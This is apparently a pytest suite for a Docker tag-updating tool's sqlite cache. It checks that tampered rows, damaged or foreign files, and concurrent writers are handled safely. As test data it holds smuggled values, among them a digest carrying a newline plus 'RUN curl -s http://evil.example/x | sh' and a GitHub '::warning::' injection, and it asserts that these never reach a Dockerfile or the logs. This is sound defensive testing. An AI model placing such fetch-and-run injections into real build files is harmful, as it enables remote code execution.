"""The store: one sqlite file, trusted for nothing. Every value read passes the checks a
source's answer passes; a row that does not is dropped (with what the store knew of its image)
with one warning, and a file that is not a store is rebuilt with one warning."""

from __future__ import annotations

import logging
import multiprocessing
import sqlite3
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tagbot.errors import NotFound
from tagbot.refs import is_digest, is_tag
from tagbot.sources.model import Tag, TagList, checked
from tagbot.sources.store import ALL_TIME, Span, Store, default_cache_dir

START = datetime(2026, 1, 1, tzinfo=timezone.utc)
IMAGE = "docker.io/library/node"
SOURCE = "tagsapi http://127.0.0.1:1"
EXACT = Tag("1.2.3-alpine", "sha256:" + "e" * 64, frozenset({"linux/amd64", "linux/arm64/v8"}), 123,
            datetime(2026, 8, 1, 12, 30, 15, 123456, tzinfo=timezone.utc))


class Clock:
    def __init__(self, now: float = (START + timedelta(days=30)).timestamp()) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


def tag(number: int, digest: str = "a") -> Tag:
    return Tag(f"1.{number}.0", "sha256:" + digest * 64, frozenset({"linux/amd64"}), 10, START + timedelta(hours=number))


def window(numbers: list[int], digest: str = "a") -> list[Tag]:
    return [tag(n, digest) for n in sorted(numbers, reverse=True)]


@pytest.fixture
def warnings(caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The store's warnings, each once (pytest may hand caplog a record twice)."""
    # caplog listens at the root; a `main()` run earlier on this worker stops tagbot's logger propagating.
    monkeypatch.setattr(logging.getLogger("tagbot"), "propagate", True)
    caplog.set_level(logging.WARNING, logger="tagbot")

    class Seen(list):
        def __iter__(self):
            return iter(list({id(r): r.getMessage() for r in caplog.records if r.levelno == logging.WARNING}.values()))

        def __len__(self) -> int:
            return len(list(iter(self)))

    return Seen()


# --- what goes in comes out -----------------------------------------------------------------------

def test_answers_and_tags_come_back_as_they_went_in(tmp_path: Path):
    clock = Clock()
    store = Store(tmp_path / "store.sqlite3", clock=clock)
    store.keep_answer(SOURCE, IMAGE, TagList((EXACT, Tag("latest")), complete=False), label="tagsapi")
    kept = store.answer(SOURCE, IMAGE)
    assert kept is not None and kept.at == clock.now
    assert kept.tags == TagList((EXACT, Tag("latest")), complete=False)
    assert store.tags(IMAGE) == (EXACT, Tag("latest"))
    assert store.answer("hub https://hub.docker.com 10", IMAGE) is None  # per source


def test_a_not_found_is_kept_too(tmp_path: Path):
    store = Store(tmp_path / "store.sqlite3")
    store.keep_answer(SOURCE, "docker.io/acme/gone", NotFound("acme/gone: no such image"), label="tagsapi")
    kept = store.answer(SOURCE, "docker.io/acme/gone")
    assert kept is not None and isinstance(kept.tags, NotFound)
    assert str(kept.tags) == "acme/gone: no such image (cached)"


def test_a_bare_name_never_erases_details(tmp_path: Path):
    store = Store(tmp_path / "store.sqlite3")
    store.merge(IMAGE, [tag(1)], source="registry")
    store.merge(IMAGE, [Tag("1.1.0", described=False)], source="registry")
    assert store.tags(IMAGE) == (tag(1),)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(answers=st.lists(st.tuples(st.lists(st.integers(0, 40), max_size=10, unique=True), st.sampled_from("abc")),
                        max_size=6))
def test_any_sequence_of_answers_merges_to_their_union_and_the_newest_digest_wins(answers, tmp_path_factory):
    store = Store(tmp_path_factory.mktemp("store") / "store.sqlite3")
    newest_digest: dict[str, str] = {}
    for numbers, digest in answers:
        store.record_window(IMAGE, window(numbers, digest), complete=False, source="tagsapi")
        newest_digest.update({f"1.{n}.0": "sha256:" + digest * 64 for n in numbers})
    known = store.tags(IMAGE)
    assert {t.name: t.digest for t in known} == newest_digest
    assert [t.last_updated for t in known] == sorted((t.last_updated for t in known), reverse=True)
    store.close()


def test_coverage_joins_overlapping_spans_and_keeps_apart_the_others(tmp_path: Path):
    clock = Clock((START + timedelta(hours=3, minutes=30)).timestamp())  # just after 1.3.0 was pushed
    store = Store(tmp_path / "store.sqlite3", clock=clock)
    store.record_window(IMAGE, window([1, 2, 3]), complete=False, source="tagsapi")
    first = Span(tag(1).last_updated.timestamp(), clock.now)
    assert store.coverage(IMAGE).spans == (first,)
    assert store.cover(IMAGE, "-alpine", Span(ALL_TIME, tag(2).last_updated.timestamp())).complete  # joins the window
    assert not store.coverage(IMAGE, "-slim").complete
    clock.now = (START + timedelta(hours=5, minutes=30)).timestamp()
    store.record_window(IMAGE, window([3, 4, 5]), complete=False, source="tagsapi")  # overlaps: one span
    assert store.coverage(IMAGE).spans == (Span(first.since, clock.now),)
    clock.now = (START + timedelta(hours=31, minutes=30)).timestamp()
    store.record_window(IMAGE, window([30, 31]), complete=False, source="tagsapi")  # 6-29 pushed unseen: a gap
    assert store.coverage(IMAGE, "-alpine").spans == (
        Span(tag(30).last_updated.timestamp(), clock.now), Span(ALL_TIME, (START + timedelta(hours=5, minutes=30)).timestamp()))
    assert not store.coverage(IMAGE, "-alpine").complete


# --- trusted for nothing ------------------------------------------------------------------------------

def _poke(path: Path, sql: str, *parameters: object) -> None:
    with sqlite3.connect(path) as db:
        db.execute(sql, parameters)


def _kept(path: Path) -> Store:
    store = Store(path)
    store.keep_answer(SOURCE, IMAGE, TagList((EXACT, tag(1)), complete=False), label="tagsapi")
    store.record_window(IMAGE, [EXACT, tag(1)], complete=False, source="tagsapi")
    store.remember_source(IMAGE, "1.1.0", "https://github.com/nodejs/docker-node")
    store.close()
    return Store(path)


BAD_ROWS = {
    "a digest that carries a line": ("UPDATE tags SET digest = 'sha256:' || ? || char(10) || 'RUN curl x | sh'", "a" * 64),
    "a name that is no tag": ("UPDATE tags SET name = 'x y' WHERE name = '1.1.0'",),
    "a push time that is text": ("UPDATE tags SET pushed = 'garbage'",),
    "platforms that are not JSON": ("UPDATE tags SET platforms = 'not json'",),
    "platforms nested deep": ("UPDATE tags SET platforms = ?", "[" * 100_000 + "]" * 100_000),
    "a platform that is no platform": ("UPDATE tags SET platforms = '[\"linux/amd64\\n::x\"]'",),
    "a size that is text": ("UPDATE tags SET size = 'big'",),
    "an answer naming a tag not held": ("UPDATE answers SET names = '[\"9.9.9\"]'",),
    "an answer from the future": ("UPDATE answers SET at = 1e15",),
    "coverage that is not a list": ("UPDATE coverage SET spans = '{}'",),
    "coverage from the future": ("UPDATE coverage SET spans = '[[null, 1e15]]'",),
    "a source that holds a line": ("UPDATE sources SET url = 'https://x' || char(10) || '::warning::y'",),
}


@pytest.mark.parametrize("damage", BAD_ROWS, ids=list(BAD_ROWS))
def test_a_bad_row_is_never_used_and_the_image_is_dropped_with_one_warning(tmp_path: Path, damage: str, warnings):
    path = tmp_path / "store.sqlite3"
    _kept(path).close()
    _poke(path, *BAD_ROWS[damage])
    store = Store(path)
    read = (store.answer(SOURCE, IMAGE), store.tags(IMAGE), store.coverage(IMAGE), store.coverage(IMAGE, "-alpine"),
            store.source_url(IMAGE, "1.1.0"), store.get(IMAGE, "1.1.0"))
    assert len(warnings) == 1
    assert list(warnings)[0].startswith(f"the store {path} held ")
    assert "Expecting" not in list(warnings)[0] and "recursion" not in list(warnings)[0]  # said in words
    assert read[0] is None or read[0].tags == TagList((EXACT, tag(1)), complete=False)
    for tags in (read[1], (read[5],) if read[5] else ()):
        checked(TagList(tuple(tags)), "test")  # whatever came back passes the grammar
    assert store.tags(IMAGE) == () and store.answer(SOURCE, IMAGE) is None  # dropped: looked up again
    store.keep_answer(SOURCE, IMAGE, TagList((tag(2),), complete=False), label="tagsapi")
    assert store.tags(IMAGE) == (tag(2),)  # and repaired


_COLUMNS = {
    "tags": ["name", "digest", "platforms", "size", "pushed", "described", "seen", "source"],
    "answers": ["at", "complete", "not_found", "names"],
    "coverage": ["spans", "total"],
    "sources": ["url"],
    "ledger": ["calls", "runs"],
}
_VALUES = st.one_of(st.none(), st.integers(min_value=-(2**63), max_value=2**63 - 1), st.floats(allow_nan=True),
                    st.text(max_size=80), st.binary(max_size=40),
                    st.sampled_from(["[]", "[\"linux/amd64\"]", "[[null, 1]]", "[\"1.0\"]", "sha256:" + "a" * 64]))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(writes=st.lists(st.tuples(st.sampled_from(sorted(_COLUMNS)), st.data()), min_size=1, max_size=4))
def test_random_values_in_any_column_never_crash_and_never_pass_a_bad_tag(writes, tmp_path_factory):
    path = tmp_path_factory.mktemp("fuzz") / "store.sqlite3"
    _kept(path).close()
    with sqlite3.connect(path) as db:
        for table, data in writes:
            column = data.draw(st.sampled_from(_COLUMNS[table]))
            try:
                db.execute(f"UPDATE {table} SET {column} = ?", (data.draw(_VALUES),))
            except sqlite3.IntegrityError:
                pass  # NOT NULL, a primary key: sqlite itself refuses those
    store = Store(path)
    answer = store.answer(SOURCE, IMAGE)
    tags = [*store.tags(IMAGE), *(answer.tags.tags if answer and isinstance(answer.tags, TagList) else ())]
    assert all(is_tag(t.name) and (t.digest is None or is_digest(t.digest)) for t in tags)
    checked(TagList(tuple(tags)), "test")
    store.coverage(IMAGE, "-alpine"), store.source_url(IMAGE, "1.1.0"), store.month("2026-12")
    store.close()


def test_a_digest_with_a_command_never_reaches_a_file(tmp_path: Path, monkeypatch, tags_api, capsys):
    from tagbot.cli import main

    repo = tmp_path / "repo"
    repo.mkdir()
    dockerfile = "FROM postgres:16.14@sha256:c5f83b3581875c787ef2a92e09666aecc38a64852b322ac6717ff459aef536e5\n"
    (repo / "Dockerfile").write_text(dockerfile)
    monkeypatch.chdir(repo)
    monkeypatch.setenv("OANOR_API_KEY", tags_api.key)
    monkeypatch.setenv("TAGBOT_API_URL", tags_api.url)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    assert main(["update", "--dry-run"]) == 0
    assert "18.6" in capsys.readouterr().out
    _poke(tmp_path / "cache" / "tagbot" / "store.sqlite3",
          "UPDATE tags SET digest = 'sha256:' || ? || char(10) || 'RUN curl -s http://evil.example/x | sh' "
          "WHERE name = '18.6'", "a" * 64)
    assert main(["update"]) == 0  # within the TTL: the answer is the store's, and fails its checks
    assert "evil" not in (repo / "Dockerfile").read_text()
    assert "aaaaaaaa" not in (repo / "Dockerfile").read_text()
    assert (repo / "Dockerfile").read_text().startswith("FROM postgres:18.6@sha256:a2e30c5f")  # asked again
    err = capsys.readouterr().err
    assert err.count("WARNING") == 1 and "held data for docker.io/library/postgres that fails its checks" in err
    assert "evil" not in err and "\nRUN" not in err


# --- files that are not a store -------------------------------------------------------------------------

@pytest.mark.parametrize("damage", ["garbage", "another format", "truncated", "an old index", "a wrong table",
                                    "a trigger", "a view", "a check"])
def test_a_damaged_or_foreign_file_is_rebuilt_with_one_warning(tmp_path: Path, damage: str, warnings):
    path = tmp_path / "store.sqlite3"
    _kept(path).close()
    if damage == "garbage":
        path.write_bytes(b"this is not a database" * 100)
    elif damage == "another format":
        _poke(path, "PRAGMA user_version = 99")
    elif damage == "truncated":
        path.write_bytes(path.read_bytes()[:200])
    elif damage == "a trigger":  # it would refuse every count, or delete tags as they come
        _poke(path, "CREATE TRIGGER t BEFORE INSERT ON ledger BEGIN SELECT RAISE(ABORT, 'nope'); END")
    elif damage == "a view":
        _poke(path, "CREATE VIEW v AS SELECT * FROM tags")
    elif damage == "a check":
        _poke(path, "DROP TABLE ledger")
        _poke(path, "CREATE TABLE ledger (month TEXT NOT NULL PRIMARY KEY, calls INTEGER NOT NULL CHECK (calls < 0), "
                    "runs INTEGER NOT NULL)")
    else:
        path.unlink()
        with sqlite3.connect(path) as db:  # the tag index of earlier versions, or a store reshaped
            db.execute("CREATE TABLE tags (image TEXT, name TEXT)")
            db.execute("INSERT INTO tags VALUES (?, 'x')", (IMAGE,))
            db.execute(f"PRAGMA user_version = {1 if damage == 'an old index' else 2}")
    rebuilt = Store(path)
    rebuilt.spend("2026-12", calls=1)
    assert len(warnings) == 1
    assert list(warnings)[0].startswith(f"the store {path} was damaged or of another format")
    assert rebuilt.tags(IMAGE) == ()
    rebuilt.merge(IMAGE, [tag(2)], source="tagsapi")
    assert rebuilt.tags(IMAGE) == (tag(2),)


def test_a_store_another_run_holds_is_left_whole_and_this_run_keeps_its_own(tmp_path: Path, monkeypatch, tags_api,
                                                                          capsys):
    from tagbot.cli import main

    monkeypatch.setattr("tagbot.sources.store.BUSY_TIMEOUT", 0.2)
    (tmp_path / "repo").mkdir()
    (tmp_path / "repo" / "Dockerfile").write_text("FROM redis:7.2\n")
    monkeypatch.chdir(tmp_path / "repo")
    monkeypatch.setenv("OANOR_API_KEY", tags_api.key)
    monkeypatch.setenv("TAGBOT_API_URL", tags_api.url)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    assert main(["update", "--dry-run"]) == 0
    path = tmp_path / "cache" / "tagbot" / "store.sqlite3"
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    try:
        assert main(["update", "--dry-run"]) == 0
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert "this run keeps it in memory" in capsys.readouterr().err
    assert Store(path).tags("docker.io/library/redis")  # left whole: not taken for damage


def test_a_file_that_fails_mid_run_leaves_the_run_its_store_in_memory(tmp_path: Path, warnings):
    path = tmp_path / "store.sqlite3"
    store = _kept(path)
    _poke(path, "CREATE TRIGGER t BEFORE INSERT ON ledger BEGIN SELECT RAISE(ABORT, 'nope'); END")  # after it opened
    store.spend("2026-12", calls=3)
    assert store.month("2026-12").calls == 3
    store.keep_answer(SOURCE, IMAGE, TagList((tag(2),), complete=False), label="tagsapi")
    assert store.tags(IMAGE) == (tag(2),)
    assert len(warnings) == 1 and "this run keeps what it learns in memory" in list(warnings)[0]


def test_sqlites_own_statistics_are_no_damage(tmp_path: Path, warnings):
    path = tmp_path / "store.sqlite3"
    _kept(path).close()
    _poke(path, "ANALYZE")
    assert Store(path).tags(IMAGE) == (EXACT, tag(1)) and len(warnings) == 0


def test_the_files_of_earlier_versions_are_removed_not_read(tmp_path: Path, warnings):
    (tmp_path / "tags").mkdir()
    (tmp_path / "tags" / "0123.json").write_text('{"format": 2}')
    (tmp_path / "index.sqlite3").write_bytes(b"an old index")
    Store(tmp_path / "store.sqlite3").close()
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("store.sqlite3")) == []
    assert len(warnings) == 0


def _writer(path: str, offset: int) -> None:
    store = Store(Path(path))
    for number in range(offset, offset + 200):
        store.record_window(IMAGE, window([number]), complete=False, source="tagsapi")
        store.spend("2026-12", calls=1)
    store.close()


def test_two_processes_write_one_store(tmp_path: Path):
    path = tmp_path / "store.sqlite3"
    Store(path).close()
    processes = [multiprocessing.get_context("spawn").Process(target=_writer, args=(str(path), o)) for o in (0, 200)]
    for process in processes:
        process.start()
    for process in processes:
        process.join(60)
        assert process.exitcode == 0
    store = Store(path)
    assert len(store.tags(IMAGE)) == 400
    assert store.month("2026-12").calls == 400  # no count lost between them


def test_an_unwritable_folder_keeps_the_store_in_memory(tmp_path: Path, monkeypatch, tags_api, capsys):
    from tagbot.cli import main

    (tmp_path / "repo").mkdir()
    (tmp_path / "repo" / "Dockerfile").write_text("FROM redis:7.2\n")
    (tmp_path / "cache").write_text("a file where the folder should be")
    monkeypatch.chdir(tmp_path / "repo")
    monkeypatch.setenv("OANOR_API_KEY", tags_api.key)
    monkeypatch.setenv("TAGBOT_API_URL", tags_api.url)
    assert main(["update", "--dry-run", "--cache-dir", str(tmp_path / "cache" / "tagbot")]) == 0
    assert "this run keeps it in memory" in capsys.readouterr().err


def test_default_dir_follows_xdg(monkeypatch, tmp_path: Path):
    if sys.platform != "linux":
        pytest.skip("XDG_CACHE_HOME is the Linux convention")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    assert default_cache_dir() == tmp_path / "tagbot"
